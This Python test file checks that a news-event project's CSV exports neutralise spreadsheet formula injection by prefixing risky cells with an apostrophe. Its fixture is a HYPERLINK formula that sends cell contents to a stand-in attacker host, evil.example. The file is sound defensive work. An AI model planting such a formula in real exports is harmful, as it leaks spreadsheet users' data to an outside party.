"""Issue #18: CSV downloads carry no formulas. A cell that starts with = + - @ (or a tab or
carriage return) is written as text, with a leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io

from newsgraph.exports.common import spreadsheet_safe
from newsgraph.testing import synthetic_record

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _store_with_formula(app) -> None:
    rec = synthetic_record("f1", "2016-08-09", [("TUR", "GOV", "RUS", "", "190", 4, -10.0)],
                           place=(FORMULA, "TUR", 39.9, 32.8))
    rec.title = FORMULA
    app.state.db.write([rec])


def test_a_formula_in_a_csv_download_is_text(fresh_client):
    with fresh_client() as c:
        _store_with_formula(c.app)
        resp = c.get("/api/events", params={"format": "csv"})
        assert resp.status_code == 200
        (row,) = list(csv.DictReader(io.StringIO(resp.text)))
        assert row["place_name"] == "'" + FORMULA  # a spreadsheet shows the text
        assert row["goldstein"] == "-10"  # a negative number is no formula
        as_json = c.get("/api/events", params={"format": "json"}).json()
        assert as_json[0]["place_name"] == FORMULA  # JSON keeps the value as stored


def test_the_csv_export_writes_formulas_as_text(tmp_path):
    from newsgraph.exports import ExportOptions, export
    from newsgraph.store import Store

    rec = synthetic_record("f1", "2016-08-09", [("TUR", "GOV", "RUS", "", "190", 4, -10.0)],
                           place=(FORMULA, "TUR", 39.9, 32.8))
    out = tmp_path / "events.csv"
    with Store(tmp_path / "s.duckdb") as store:
        store.write([rec])
        export(store.con, "csv", out, ExportOptions())
    (row,) = list(csv.DictReader(out.open(encoding="utf-8")))
    assert row["place_name"] == "'" + FORMULA and row["goldstein"] == "-10.0"


def test_cell_rule():
    for risky in ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\r=1", "-", "=", "-1e5x"]:
        assert spreadsheet_safe(risky) == "'" + risky, risky
    for kept in ["-3.5", "+4", "-1e5", "Ankara", "a=b", "", None, -3.5, 7]:
        assert spreadsheet_safe(kept) == kept, kept
